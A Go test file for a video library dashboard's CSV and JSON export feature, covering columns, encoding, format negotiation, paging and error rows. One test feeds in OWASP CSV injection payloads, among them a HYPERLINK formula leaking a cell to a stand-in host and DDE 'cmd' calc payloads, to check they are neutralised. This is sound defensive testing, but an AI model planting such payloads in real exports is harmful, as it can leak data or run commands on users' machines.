package web

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"vodboard/handlers"
	"vodboard/views"
	"vodboard/vodclient"
	"vodboard/vodclient/emulator"
)

// The columns the README documents ("Export"). A change here is a change
// for every spreadsheet and script that reads the files.
var (
	documentedAssetColumns = []string{
		"id", "reference_id", "kind", "outcome", "title", "status", "type", "category", "category_id",
		"tags", "duration", "size", "resolution", "created", "streams", "definitions", "detail", "error",
	}
	documentedStreamColumns = []string{
		"media_id", "kind", "index", "codec", "codec_long_name", "language", "duration", "bitrate", "frames",
		"profile", "level", "width", "height", "fps", "avg_fps", "pix_fmt", "hdr", "sar", "dar", "rotate", "has_b_frames",
		"channels", "channel_layout", "sample_rate", "sample_fmt",
		"time_base", "codec_time_base", "codec_tag", "codec_tag_string", "start_time",
	}
	documentedPlayInfoColumns = []string{
		"media_id", "definition", "format", "stream_type", "status", "width", "height", "bitrate", "fps", "size",
		"duration", "codec", "hdr", "bit_depth", "encrypted", "encrypt_type", "encrypt_mode", "specification",
		"narrowband", "watermark_id", "job_type", "job_ext", "job_id", "template_id", "template_group_id",
		"created", "modified",
	}
)

// csvExport is a CSV export as a spreadsheet reads it: the header, and
// each row by column name.
type csvExport struct {
	header []string
	rows   []map[string]string
}

// readCSVExport checks what every CSV export must be (200, text/csv, an
// attachment named after kind, the UTF-8 BOM, RFC 4180 with CRLF and the
// same number of fields in every record) and reads it.
func readCSVExport(t *testing.T, p *page, kind string) csvExport {
	t.Helper()
	checkDownload(t, p, kind, "csv", "text/csv; charset=utf-8; header=present")
	body, ok := strings.CutPrefix(p.body, "\uFEFF")
	if !ok {
		t.Fatalf("the CSV does not start with the UTF-8 BOM: %q", excerpt(p.body))
	}
	if strings.Count(body, "\r\n") != strings.Count(body, "\n") {
		t.Errorf("a line of the CSV does not end in CRLF")
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not RFC 4180 CSV: %v\n%s", err, excerpt(body))
	}
	out := csvExport{header: records[0]}
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, name := range out.header {
			row[name] = rec[i]
		}
		out.rows = append(out.rows, row)
	}
	return out
}

// jsonExport is a JSON export as a script reads it.
type jsonExport struct {
	Columns   []string         `json:"columns"`
	Rows      []map[string]any `json:"rows"`
	Complete  bool             `json:"complete"`
	Truncated *struct {
		Message string `json:"message"`
	} `json:"truncated"`
	Error *struct {
		Message string `json:"message"`
	} `json:"error"`
}

func readJSONExport(t *testing.T, p *page, kind string) jsonExport {
	t.Helper()
	checkDownload(t, p, kind, "json", "application/json; charset=utf-8")
	var d jsonExport
	dec := json.NewDecoder(strings.NewReader(p.body))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&d); err != nil {
		t.Fatalf("not a JSON export: %v\n%s", err, excerpt(p.body))
	}
	for i, r := range d.Rows {
		if len(r) != len(d.Columns) {
			t.Errorf("row %d has %d keys for %d columns", i, len(r), len(d.Columns))
		}
	}
	return d
}

var fileName = regexp.MustCompile(`^attachment; filename="vodboard-([a-z0-9-]+)-(\d{8}T\d{6}Z)\.(csv|json)"$`)

func checkDownload(t *testing.T, p *page, kind, ext, contentType string) {
	t.Helper()
	mustStatus(t, p, http.StatusOK)
	if ct := p.header.Get("Content-Type"); ct != contentType {
		t.Errorf("Content-Type %q, want %q", ct, contentType)
	}
	m := fileName.FindStringSubmatch(p.header.Get("Content-Disposition"))
	if m == nil || m[1] != kind || m[3] != ext {
		t.Errorf("Content-Disposition %q, want an attachment vodboard-%s-<UTC time>.%s", p.header.Get("Content-Disposition"), kind, ext)
	}
}

// column is one column of rows.
func column[R, V any](rows []R, get func(R) V) []V {
	out := make([]V, len(rows))
	for i, r := range rows {
		out[i] = get(r)
	}
	return out
}

func jsonText(v any) string {
	switch v := v.(type) {
	case nil:
		return ""
	case string:
		return v
	case float64:
		return strconv.FormatFloat(v, 'f', -1, 64)
	}
	b, _ := json.Marshal(v)
	return string(b)
}

func TestExportLookupsRowPerIDWithFlags(t *testing.T) {
	t.Parallel()
	h, b := signedIn(t, harnessOptions{})
	forbidden := h.cat.ForbiddenIDs()
	if len(forbidden) == 0 {
		t.Skip("the catalog has no forbidden media")
	}
	img, media, ref := h.cat.ImageIDs()[0], h.cat.MediaIDs()[0], h.cat.ReferenceIDs()[0]
	var refMedia string
	for _, id := range h.cat.MediaIDs() {
		if h.media(t, id).MediaInfo.ReferenceID == ref {
			refMedia = id
		}
	}
	const missing, missingRef = "0000000000000000000000000000dead", "no-such-reference"

	type row struct{ id, ref, kind, outcome, detail string }
	tests := []struct {
		name, path, kind string
		want             []row
	}{
		{"images", "/images?ids=" + img + "," + missing, "images", []row{
			{img, "", "image", "found", "/images/" + img},
			{missing, "", "image", "nonexistent", ""},
		}},
		{"media and references", "/media?ids=" + media + "," + missing + "," + forbidden[0] + "&refs=" + ref + "," + missingRef, "media", []row{
			{media, h.media(t, media).MediaInfo.ReferenceID, h.cat.MediaType(media), "found", "/media/" + media},
			{missing, "", "", "nonexistent", ""},
			{forbidden[0], "", "", "forbidden", ""},
			{refMedia, ref, h.cat.MediaType(refMedia), "found", "/media/" + refMedia},
			{"", missingRef, "", "nonexistent-reference", ""},
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			read := func(r map[string]string) row {
				return row{r["id"], r["reference_id"], r["kind"], r["outcome"], r["detail"]}
			}
			f := readCSVExport(t, b.get(tc.path+"&format=csv"), tc.kind)
			if !slices.Equal(f.header, documentedAssetColumns) {
				t.Errorf("CSV header %q, want the documented %q", f.header, documentedAssetColumns)
			}
			if got := column(f.rows, read); !slices.Equal(got, tc.want) {
				t.Errorf("CSV rows %q, want %q", got, tc.want)
			}
			d := readJSONExport(t, b.get(tc.path+"&format=json"), tc.kind)
			if !slices.Equal(d.Columns, documentedAssetColumns) || !d.Complete {
				t.Errorf("JSON columns %q, complete %v", d.Columns, d.Complete)
			}
			got := column(d.Rows, func(r map[string]any) row {
				return row{jsonText(r["id"]), jsonText(r["reference_id"]), jsonText(r["kind"]), jsonText(r["outcome"]), jsonText(r["detail"])}
			})
			if !slices.Equal(got, tc.want) {
				t.Errorf("JSON rows %q, want %q", got, tc.want)
			}
		})
	}

	t.Run("values of a found asset", func(t *testing.T) {
		m := h.findMedia(t, "a video with streams and definitions", func(m mediaEntry) bool {
			return len(m.MezzanineInfo.VideoStreamList) > 0 && len(m.PlayInfoList) > 0 && m.MediaInfo.Tags != ""
		})
		d := readJSONExport(t, b.get("/media?ids="+m.MediaID+"&format=json"), "media")
		r := d.Rows[0]
		want := map[string]any{
			"title": m.MediaInfo.Title, "status": m.MediaInfo.Status, "type": "video",
			"streams":     float64(len(m.MezzanineInfo.VideoStreamList) + len(m.MezzanineInfo.AudioStreamList)),
			"definitions": float64(len(m.PlayInfoList)), "error": nil,
		}
		for k, v := range want {
			if r[k] != v {
				t.Errorf("%s = %#v, want %#v", k, r[k], v)
			}
		}
		tags, ok := r["tags"].([]any)
		if !ok || len(tags) != len(strings.Split(m.MediaInfo.Tags, ",")) {
			t.Errorf("tags %#v, want the %q as a JSON array", r["tags"], m.MediaInfo.Tags)
		}
		for _, k := range []string{"duration", "size"} {
			if n, ok := r[k].(float64); !ok || n <= 0 {
				t.Errorf("%s = %#v, want a positive number", k, r[k])
			}
		}
		if s, _ := r["resolution"].(string); !regexp.MustCompile(`^\d+x\d+$`).MatchString(s) {
			t.Errorf("resolution %q, want WxH", s)
		}
		if s, _ := r["created"].(string); !regexp.MustCompile(`^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$`).MatchString(s) {
			t.Errorf("created %q, want ISO 8601 UTC", s)
		}
	})
}

// failingUpstream makes the emulator answer InternalError to the calls of
// action for which fail says so; fail sees the call's query.
func failingUpstream(action string, fail func(q url.Values) bool) func(http.Handler) http.Handler {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.Header.Get("x-acs-action") == action && fail(r.URL.Query()) {
				w.Header().Set("Content-Type", "application/json")
				w.WriteHeader(http.StatusInternalServerError)
				fmt.Fprint(w, `{"RequestId":"req-export-fail","HostId":"vod.cn-shanghai.aliyuncs.com","Code":"InternalError","Message":"The request processing has failed."}`)
				return
			}
			next.ServeHTTP(w, r)
		})
	}
}

func TestExportFailedCallsAreRows(t *testing.T) {
	t.Parallel()
	ids := demoCatalog(t).MediaIDs()[:25]
	failing := ids[24]
	h, b := signedIn(t, harnessOptions{upstream: failingUpstream("BatchGetMediaInfos", func(q url.Values) bool {
		return strings.Contains(q.Get("MediaIds"), failing)
	})})
	f := readCSVExport(t, b.get("/media?format=csv&ids="+strings.Join(ids, ",")), "media")
	if len(f.rows) != len(ids) {
		t.Fatalf("%d rows for %d IDs", len(f.rows), len(ids))
	}
	for i, r := range f.rows {
		wantOutcome := "found"
		if i >= 20 { // the second call, of IDs 21 to 25, failed
			wantOutcome = "failed"
		}
		if r["id"] != ids[i] || r["outcome"] != wantOutcome {
			t.Errorf("row %d: %s %s, want %s %s", i, r["id"], r["outcome"], ids[i], wantOutcome)
		}
		if wantOutcome == "failed" && (!strings.Contains(r["error"], "InternalError") || !strings.Contains(r["error"], "req-export-fail")) {
			t.Errorf("row %d: error %q does not name the code and VOD's request ID", i, r["error"])
		}
		if wantOutcome == "found" && r["error"] != "" {
			t.Errorf("row %d found with error %q", i, r["error"])
		}
	}
	if n := len(h.calls("BatchGetMediaInfos")); n < 2 {
		t.Errorf("%d BatchGetMediaInfos calls, want 2", n)
	}
}

// injectionTitles are cell values a spreadsheet would run (OWASP CSV
// injection), and a title Excel shows right only with the BOM.
var injectionTitles = []string{
	`=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1,2)`,
	"\t=1+1",
	"\r=1+1",
	"  =1+1",
	"＝1+1",
	"发布会 2025：新品「Aurora」",
}

// injectionCatalog is a catalog of videos titled and tagged with
// injectionTitles.
func injectionCatalog(t *testing.T) (*emulator.Catalog, []string) {
	t.Helper()
	var media []any
	var ids []string
	for i, title := range injectionTitles {
		id := fmt.Sprintf("inject%02d", i)
		ids = append(ids, id)
		media = append(media, map[string]any{
			"MediaId": id,
			"MediaInfo": map[string]any{"MediaId": id, "Title": title, "Status": "Normal", "Tags": "=cmd|x,ok",
				"CateName": "@cat", "CreationTime": fmt.Sprintf("2025-03-%02dT10:00:00Z", i+1)},
			"MezzanineInfo": map[string]any{"MediaId": id, "Width": 1920, "Height": 1080,
				"VideoStreamList": []any{map[string]any{"Index": "0", "CodecName": "=h264", "Width": "1920", "Height": "1080"}}},
			"PlayInfoList": []any{map[string]any{"Definition": "-FD", "Format": "mp4", "StreamType": "video", "Status": "Normal",
				"PlayURL": "https://cdn.example.com/p.mp4?auth_key=1-0-0-abc", "JobExt": "+x"}},
		})
	}
	raw, err := json.Marshal(map[string]any{"images": []any{}, "media": media})
	if err != nil {
		t.Fatal(err)
	}
	c, err := emulator.LoadCatalog(strings.NewReader(string(raw)))
	if err != nil {
		t.Fatal(err)
	}
	return c, ids
}

func TestExportCSVIsSafeToOpen(t *testing.T) {
	t.Parallel()
	cat, ids := injectionCatalog(t)
	_, b := signedIn(t, harnessOptions{catalog: cat})
	neutral := func(s string) string {
		if strings.HasPrefix(strings.TrimLeft(s, " \t\r\n"), "=") || strings.ContainsAny(s[:1], "=+-@\t\r") || strings.HasPrefix(s, "＝") {
			return "'" + s
		}
		return s
	}
	for _, target := range []string{"/library?sort=oldest&format=csv", "/media?format=csv&ids=" + strings.Join(ids, ",")} {
		kind := "library-video"
		if strings.HasPrefix(target, "/media") {
			kind = "media"
		}
		f := readCSVExport(t, b.get(target), kind)
		if len(f.rows) != len(injectionTitles) {
			t.Fatalf("%s: %d rows, want %d", target, len(f.rows), len(injectionTitles))
		}
		for i, r := range f.rows {
			// encoding/csv writes CRLF line ends and drops a lone \r.
			want := strings.ReplaceAll(neutral(injectionTitles[i]), "\r", "")
			if r["title"] != want {
				t.Errorf("%s: title %q, want %q", target, r["title"], want)
			}
			if r["tags"] != "'=cmd|x, ok" || r["category"] != "'@cat" {
				t.Errorf("%s: tags %q and category %q are not neutralised", target, r["tags"], r["category"])
			}
			for name, cell := range r {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("%s: %s cell %q starts a formula", target, name, cell)
				}
			}
		}
	}
	for _, table := range []string{"streams", "playinfo"} {
		target := "/media/" + ids[0] + "/" + table
		f := readCSVExport(t, b.get(target+"?format=csv"), "media-"+ids[0]+"-"+table)
		for _, r := range f.rows {
			for name, cell := range r {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("%s: %s cell %q starts a formula", target, name, cell)
				}
			}
		}
	}
	// JSON is data, not a spreadsheet: the titles come through as they are.
	d := readJSONExport(t, b.get("/library?sort=oldest&format=json"), "library-video")
	if got := column(d.Rows, func(r map[string]any) string { return jsonText(r["title"]) }); !slices.Equal(got, injectionTitles) {
		t.Errorf("JSON titles %q, want %q", got, injectionTitles)
	}
}

func TestExportFormatNegotiation(t *testing.T) {
	t.Parallel()
	h, b := signedIn(t, harnessOptions{})
	img := h.cat.ImageIDs()[0]
	lookup := "/images?ids=" + img

	tests := []struct {
		name, accept string
		json         bool // a JSON file; else the page
	}{
		{"application/json", "application/json", true},
		{"JSON among others", "text/plain;q=0.5, application/json;q=0.9", true},
		{"a browser", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", false},
		{"htmx", "*/*", false},
		{"JSON refused", "application/json;q=0", false},
	}
	for _, tc := range tests {
		p := b.get(lookup, withHeader("Accept", tc.accept))
		mustStatus(t, p, http.StatusOK)
		if tc.json {
			readJSONExport(t, p, "images")
			if !slices.Contains(p.header.Values("Vary"), "Accept") {
				t.Errorf("%s: Vary %q does not name Accept", tc.name, p.header.Values("Vary"))
			}
		} else if p.find("image-card").Length() != 1 {
			t.Errorf("%s: Accept %q did not get the page", tc.name, tc.accept)
		}
	}
	// format wins over Accept.
	readCSVExport(t, b.get(lookup+"&format=csv", withHeader("Accept", "application/json")), "images")
	readJSONExport(t, b.get(lookup+"&format=JSON"), "images")

	refused := []struct{ name, path, says string }{
		{"unknown format", "/library?format=xlsx", "xlsx"},
		{"format twice", lookup + "&format=csv&format=json", "give it once"},
		{"invalid ID", "/images?format=csv&ids=" + url.QueryEscape(img+",bad id!"), "id!"},
		{"no IDs", "/media?format=json", "refs"},
		{"invalid library parameter", "/library?format=csv&status=Lost", "Lost"},
		{"detail export, unknown format", "/media/" + h.cat.MediaIDs()[0] + "/streams?format=pdf", "pdf"},
	}
	for _, tc := range refused {
		h.emu.ResetCalls()
		p := b.get(tc.path)
		mustStatus(t, p, http.StatusBadRequest)
		if !strings.Contains(p.body, tc.says) {
			t.Errorf("%s: the 400 does not say %q: %s", tc.name, tc.says, excerpt(p.body))
		}
		if calls := h.lookupCalls(); len(calls) != 0 {
			t.Errorf("%s: %d VOD calls for a refused export", tc.name, len(calls))
		}
		if h.calls("SearchMedia") != nil {
			t.Errorf("%s: SearchMedia called for a refused export", tc.name)
		}
	}
	many := make([]string, handlers.MaxLookupIDs+1)
	for i := range many {
		many[i] = fmt.Sprintf("%032x", i+1)
	}
	h.emu.ResetCalls()
	p := b.get("/images?format=csv&ids=" + strings.Join(many, ","))
	mustStatus(t, p, http.StatusBadRequest)
	if !strings.Contains(p.body, strconv.Itoa(len(many))+" IDs") || len(h.lookupCalls()) != 0 {
		t.Errorf("%d IDs: the 400 does not say how many, or VOD was called: %s", len(many), excerpt(p.body))
	}

	// The detail tables' addresses are files only: CSV unless JSON is asked for.
	id := h.cat.MediaIDs()[0]
	readCSVExport(t, b.get("/media/"+id+"/streams"), "media-"+id+"-streams")
	readJSONExport(t, b.get("/media/"+id+"/playinfo", withHeader("Accept", "application/json")), "media-"+id+"-playinfo")
}

func TestExportLibraryWalksEverything(t *testing.T) {
	t.Parallel()
	const extra = 5050
	h, b := signedIn(t, harnessOptions{synthetic: extra, rateLimits: vodclient.NewRateLimits(nil)})
	for _, tc := range []struct {
		typ    string
		format string
	}{{"video", "csv"}, {"audio", "json"}} {
		total := libraryTotal(t, b.get("/library?type="+tc.typ))
		if total <= vodclient.SearchWindow {
			t.Fatalf("%d %s, want past %d", total, tc.typ, vodclient.SearchWindow)
		}
		h.emu.ResetCalls()
		// The page, size, view and cursor of the view on screen do not
		// narrow the export: the filters do.
		target := "/library?type=" + tc.typ + "&page=3&size=50&view=list&format=" + tc.format
		var ids []string
		if tc.format == "csv" {
			f := readCSVExport(t, b.get(target), "library-"+tc.typ)
			ids = column(f.rows, func(r map[string]string) string { return r["id"] })
			for _, r := range f.rows {
				if r["outcome"] != "found" || r["kind"] != tc.typ {
					t.Fatalf("row %v, want a found %s", r, tc.typ)
				}
			}
		} else {
			d := readJSONExport(t, b.get(target), "library-"+tc.typ)
			if !d.Complete || d.Truncated != nil || d.Error != nil {
				t.Errorf("complete %v, truncated %v, error %v", d.Complete, d.Truncated, d.Error)
			}
			ids = column(d.Rows, func(r map[string]any) string { return jsonText(r["id"]) })
		}
		if len(ids) != total {
			t.Errorf("%s: %d rows, want every one of the %d", tc.typ, len(ids), total)
		}
		seen := map[string]bool{}
		for _, id := range ids {
			if seen[id] {
				t.Errorf("%s: %s exported twice", tc.typ, id)
			}
			seen[id] = true
		}
		// Numbered pages of 100 through the window, then ScrollTokens. A
		// throttled call (the emulator's 50 a second against the client's
		// pace, on a loaded machine) is retried: count the answered ones.
		var calls []emulator.Call
		for _, c := range h.searchCalls() {
			if c.Code == "" {
				calls = append(calls, c)
			}
		}
		scrolled := 0
		for i, c := range calls {
			if c.Params["PageSize"] != "100" {
				t.Errorf("call %d: PageSize %s", i, c.Params["PageSize"])
			}
			if c.Params["ScrollToken"] != "" {
				scrolled++
			} else if c.Params["PageNo"] != strconv.Itoa(i+1) {
				t.Errorf("call %d: PageNo %s without a ScrollToken", i, c.Params["PageNo"])
			}
		}
		if want := (total + 99) / 100; len(calls) != want || scrolled != want-50 {
			t.Errorf("%s: %d SearchMedia calls (%d with a ScrollToken), want %d (%d)", tc.typ, len(calls), scrolled, want, want-50)
		}
	}

	// Images stop at the window, and the file says so.
	images := libraryTotal(t, b.get("/library?type=image"))
	f := readCSVExport(t, b.get("/library?type=image&format=csv"), "library-image")
	if len(f.rows) != vodclient.SearchWindow+1 {
		t.Fatalf("%d rows, want the first %d images and a notice", len(f.rows), vodclient.SearchWindow)
	}
	last := f.rows[len(f.rows)-1]
	if last["outcome"] != "truncated" || last["id"] != "" || !strings.Contains(last["error"], "5,000") || !strings.Contains(last["error"], views.FormatInt(int64(images))) {
		t.Errorf("last row %v, want a truncated notice naming 5,000 of %d", last, images)
	}
}

func TestExportLibraryBound(t *testing.T) {
	t.Parallel()
	const bound = 250
	_, b := signedIn(t, harnessOptions{synthetic: 300, exportMaxRows: bound, rateLimits: vodclient.NewRateLimits(nil)})
	total := libraryTotal(t, b.get("/library"))
	f := readCSVExport(t, b.get("/library?format=csv"), "library-video")
	if len(f.rows) != bound+1 {
		t.Fatalf("%d rows, want %d and a notice", len(f.rows), bound)
	}
	last := f.rows[bound]
	if last["outcome"] != "truncated" || !strings.Contains(last["error"], "250 rows") || !strings.Contains(last["error"], views.FormatInt(int64(total))) {
		t.Errorf("notice row %v, want truncated at 250 of %d", last, total)
	}
	d := readJSONExport(t, b.get("/library?format=json"), "library-video")
	if len(d.Rows) != bound || d.Complete || d.Truncated == nil || !strings.Contains(d.Truncated.Message, "250 rows") {
		t.Errorf("JSON: %d rows, complete %v, truncated %v", len(d.Rows), d.Complete, d.Truncated)
	}
	// A selection within the bound is whole, with no notice.
	f = readCSVExport(t, b.get("/library?type=audio&q=zzzz-nothing-matches&format=csv"), "library-audio")
	if len(f.rows) != 0 {
		t.Errorf("an empty selection exported %d rows", len(f.rows))
	}
}

func TestExportLibraryErrorMidway(t *testing.T) {
	t.Parallel()
	// SearchMedia calls are counted from 0; those from failAt on fail.
	var calls, failAt atomic.Int64
	failAt.Store(1 << 40)
	_, b := signedIn(t, harnessOptions{synthetic: 300, rateLimits: vodclient.NewRateLimits(nil),
		upstream: failingUpstream("SearchMedia", func(url.Values) bool { return calls.Add(1)-1 >= failAt.Load() })})
	total := libraryTotal(t, b.get("/library"))
	if total <= 300 {
		t.Fatalf("total %d, want over 300", total)
	}
	export := func(format string, failFrom int64) *page {
		calls.Store(0)
		failAt.Store(failFrom)
		return b.get("/library?format=" + format)
	}

	// The first page's call fails: nothing is sent yet, so it is an error page.
	p := export("csv", 0)
	if p.status != http.StatusBadGateway || p.header.Get("Content-Disposition") != "" {
		t.Errorf("first call failed: status %d, Content-Disposition %q, want a 502 page", p.status, p.header.Get("Content-Disposition"))
	}
	// The third fails: the file ends with the error, after 200 rows.
	f := readCSVExport(t, export("csv", 2), "library-video")
	last := f.rows[len(f.rows)-1]
	if len(f.rows) != 201 || last["outcome"] != "error" || !strings.Contains(last["error"], "InternalError") || !strings.Contains(last["error"], "200 of "+views.FormatInt(int64(total))) {
		t.Errorf("%d rows ending %v, want 200 and an error row", len(f.rows), last)
	}
	d := readJSONExport(t, export("json", 2), "library-video")
	if len(d.Rows) != 200 || d.Complete || d.Error == nil || !strings.Contains(d.Error.Message, "InternalError") {
		t.Errorf("JSON: %d rows, complete %v, error %v", len(d.Rows), d.Complete, d.Error)
	}
}
